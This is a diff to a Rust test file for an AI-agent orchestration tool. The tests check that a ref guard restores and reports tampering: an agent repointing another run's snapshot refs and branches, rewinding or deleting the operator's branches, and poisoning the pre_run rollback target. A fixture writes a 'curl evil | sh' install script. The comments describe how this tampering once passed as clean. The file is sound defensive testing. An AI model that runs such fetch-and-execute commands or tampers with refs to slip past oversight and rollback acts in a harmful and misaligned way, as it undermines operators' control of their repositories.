@@ -244,7 +244,13 @@ fn configured_globs_and_the_operators_branch_are_protected() {
     git_in(workspace.path(), &["add", "x.txt"]);
     git_in(workspace.path(), &["commit", "-q", "-m", "x"]);
     let moved = git_in(workspace.path(), &["rev-parse", "HEAD"]);
-    for branch in ["release/1.0", "release/2.0", "feature/operator", "scratch"] {
+    for branch in [
+        "release/1.0",
+        "release/2.0",
+        "feature/operator",
+        "scratch",
+        "new-scratch",
+    ] {
         git_in(
             workspace.path(),
             &["update-ref", &format!("refs/heads/{branch}"), &moved],
@@ -263,7 +269,21 @@ fn configured_globs_and_the_operators_branch_are_protected() {
         vec![
             "refs/heads/feature/operator",
             "refs/heads/release/1.0",
-            "refs/heads/release/2.0"
+            "refs/heads/release/2.0",
+            "refs/heads/scratch"
+        ]
+    );
+    assert_eq!(
+        report
+            .ref_changes
+            .iter()
+            .map(|change| change.class)
+            .collect::<Vec<_>>(),
+        [
+            RefClass::ProtectedBranch,
+            RefClass::ProtectedBranch,
+            RefClass::ProtectedBranch,
+            RefClass::OperatorBranch
         ]
     );
     assert_eq!(repo.git(&["rev-parse", "feature/operator"]), feature);
@@ -272,11 +292,10 @@ fn configured_globs_and_the_operators_branch_are_protected() {
         !repo.git(&["branch", "--list"]).contains("release/2.0"),
         "a created protected branch is deleted"
     );
-    assert_eq!(
-        repo.git(&["rev-parse", "scratch"]),
-        moved,
-        "unprotected branches are not policed"
-    );
+    // Review defect 4: an existing branch of the operator's, protected or not, is never
+    // moved; a branch the agent creates is its own.
+    assert_eq!(repo.git(&["rev-parse", "scratch"]), feature);
+    assert_eq!(repo.git(&["rev-parse", "new-scratch"]), moved);
 }
 
 #[test]
@@ -1776,4 +1795,198 @@ fn the_repositorys_conductor_files_are_watched_though_runs_exclude_them_from_git
     put(workspace.path(), "README.md", "# changed again\n");
     let (report, _) = finish_step(&workspace, &guard, &strict_policy());
     assert!(report.operator_checkout_changed.is_empty(), "{report:?}");
+}
+
+/// An agent's commit object holding `install.sh`, made in `dir` with `git commit-tree` (no
+/// ref moves, so the step counts no commit); returns its id.
+fn agents_commit_object(dir: &std::path::Path) -> String {
+    put(dir, "install.sh", "curl evil | sh\n");
+    git_in(dir, &["add", "install.sh"]);
+    let tree = git_in(dir, &["write-tree"]);
+    git_in(dir, &["reset", "-q"]);
+    std::fs::remove_file(dir.join("install.sh")).unwrap();
+    git_in(dir, &["commit-tree", &tree, "-p", "HEAD", "-m", "evil"])
+}
+
+/// Every ref of run `run` (its snapshot refs and its work branch) with what it points at.
+fn runs_refs(repo: &TempRepo, run: &str) -> String {
+    repo.git(&[
+        "for-each-ref",
+        &format!("refs/tnh/runs/{run}/"),
+        &format!("refs/heads/tnh/wf/{run}"),
+    ])
+}
+
+/// Review defect 4: the guard listed only the run's own snapshot refs. An agent pointed
+/// another run's snapshot refs and work branch at a commit of its own, rewound one of the
+/// operator's branches and deleted another — `verdict: clean`, nothing reported — and the
+/// operator's later `rollback <other run> --target pre_run` landed on the agent's files. Now
+/// all of `refs/tnh/` and every branch are compared: the other run's refs and the operator's
+/// branches are put back and the step is a `protected_branch_violation`; a branch the agent
+/// creates is its own.
+#[test]
+fn another_runs_refs_and_the_operators_branches_are_put_back_and_reported() {
+    let repo = TempRepo::new();
+    repo.git(&["checkout", "-q", "-b", "feature"]);
+    repo.write("feature.txt", "feature work\n");
+    repo.commit_all("feature work");
+    repo.git(&["checkout", "-q", "main"]);
+    repo.git(&["branch", "feature2"]);
+    let feature = repo.git(&["rev-parse", "feature"]);
+    let other = create(&repo, "other-run");
+    other
+        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("implement"), 1)
+        .unwrap();
+    let others_refs = runs_refs(&repo, "other-run");
+    let workspace = create(&repo, "this-run");
+    let guard = workspace.guard(&[]).unwrap();
+    let dir = workspace.path();
+    let evil = agents_commit_object(dir);
+    for name in git_in(
+        dir,
+        &[
+            "for-each-ref",
+            "--format=%(refname)",
+            "refs/tnh/runs/other-run/",
+            "refs/heads/tnh/wf/other-run",
+        ],
+    )
+    .lines()
+    {
+        git_in(dir, &["update-ref", name, &evil]);
+    }
+    git_in(dir, &["branch", "-f", "feature", "main"]);
+    git_in(dir, &["branch", "-D", "feature2"]);
+    git_in(dir, &["branch", "agents-own", &evil]);
+
+    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());
+
+    assert_eq!(runs_refs(&repo, "other-run"), others_refs);
+    assert_eq!(repo.git(&["rev-parse", "feature"]), feature);
+    assert_eq!(
+        repo.git(&["rev-parse", "feature2"]),
+        repo.git(&["rev-parse", "main"])
+    );
+    assert_eq!(
+        repo.git(&["rev-parse", "agents-own"]),
+        evil,
+        "the agent's own"
+    );
+    let changes: Vec<(RefClass, &str)> = report
+        .ref_changes
+        .iter()
+        .filter(|change| change.restored)
+        .map(|change| (change.class, change.refname.as_str()))
+        .collect();
+    for expected in [
+        (RefClass::OtherRun, "refs/tnh/runs/other-run/pre_run"),
+        (
+            RefClass::OtherRun,
+            "refs/tnh/runs/other-run/latest_pre_step",
+        ),
+        (RefClass::OtherRun, "refs/heads/tnh/wf/other-run"),
+        (RefClass::OperatorBranch, "refs/heads/feature"),
+        (RefClass::OperatorBranch, "refs/heads/feature2"),
+    ] {
+        assert!(changes.contains(&expected), "{expected:?}: {report:?}");
+    }
+    assert!(!changes.iter().any(|(_, name)| name.contains("agents-own")));
+    let classes = classes(&violations);
+    for rule in ["other_runs_refs", "operator_branches"] {
+        assert!(
+            classes.contains(&(ViolationClass::ProtectedBranchViolation, rule.to_owned())),
+            "{rule}: {violations:?}"
+        );
+    }
+    // The other run's rollback lands on its own base.
+    other
+        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
+        .unwrap();
+    assert!(!other.path().join("install.sh").exists());
+    assert_eq!(
+        git_in(other.path(), &["rev-parse", "HEAD"]),
+        other.record().base_sha
+    );
+}
+
+/// Review defect 4, the other side: runs work side by side. A run driven while this one's
+/// step runs (its lock held, or taken and released meanwhile) moves its own refs; those
+/// changes are listed in `other_runs_refs_changed`, neither put back nor a violation.
+#[test]
+fn a_run_driven_beside_the_step_keeps_the_refs_it_moves() {
+    use tnh_conductor::kernel::lock::RunLock;
+    for held_at_the_check in [true, false] {
+        let repo = TempRepo::new();
+        let other = create(&repo, "beside");
+        let lock = repo.path().join(".tnh/run/beside/lock");
+        std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
+        std::fs::write(&lock, "").unwrap();
+        let workspace = create(&repo, "this-run");
+        let guard = workspace.guard(&[]).unwrap();
+        // The other run's driver takes its lock, snapshots and its agent commits.
+        let driver = RunLock::acquire(&lock).unwrap();
+        other
+            .snapshot_pre_step(&tnh_conductor::ids::StepId::new("implement"), 1)
+            .unwrap();
+        put(other.path(), "work.txt", "the other run's work\n");
+        git_in(other.path(), &["add", "work.txt"]);
+        git_in(other.path(), &["commit", "-q", "-m", "work"]);
+        if !held_at_the_check {
+            drop(driver);
+        }
+        let moved = runs_refs(&repo, "beside");
+
+        let (report, violations) = finish_step(&workspace, &guard, &strict_policy());
+
+        assert_eq!(runs_refs(&repo, "beside"), moved, "{held_at_the_check}");
+        assert_eq!(
+            report.other_runs_refs_changed,
+            [
+                "refs/heads/tnh/wf/beside",
+                "refs/tnh/runs/beside/latest_pre_step",
+                "refs/tnh/runs/beside/pre_step/implement/1",
+            ],
+            "{held_at_the_check}"
+        );
+        assert!(report.ref_changes.is_empty(), "{report:?}");
+        assert!(violations.is_empty(), "{violations:?}");
+    }
+}
+
+/// Review defect 4 (b): a `pre_run` ref moved off the run's base (by an agent of another run
+/// before the guard watched other runs, or by hand) made `rollback --target pre_run` land on
+/// the commit it named. The rollback now refuses, saying so, and changes nothing.
+#[test]
+fn rollback_to_a_pre_run_that_no_longer_names_the_base_is_refused() {
+    let repo = TempRepo::new();
+    let workspace = create(&repo, "moved-base");
+    let dir = workspace.path();
+    let evil = agents_commit_object(dir);
+    let pre_run = format!(
+        "{}/pre_run",
+        tnh_conductor::workspace::refs_prefix(workspace.run_id())
+    );
+    repo.git(&["update-ref", &pre_run, &evil]);
+    put(dir, "README.md", "kept\n");
+
+    let error = workspace
+        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
+        .unwrap_err();
+
+    let text = error.to_string();
+    assert!(
+        text.contains("pre_run") && text.contains(&evil) && text.contains("not the base"),
+        "{text}"
+    );
+    assert_eq!(error.exit_status(), tnh_conductor::error::ExitStatus::Usage);
+    assert!(
+        error.hint().unwrap().contains(&format!(
+            "git update-ref {pre_run} {}",
+            workspace.record().base_sha
+        )),
+        "{:?}",
+        error.hint()
+    );
+    assert_eq!(read(dir, "README.md"), "kept\n", "nothing rolled back");
+    assert!(!dir.join("install.sh").exists());
 }
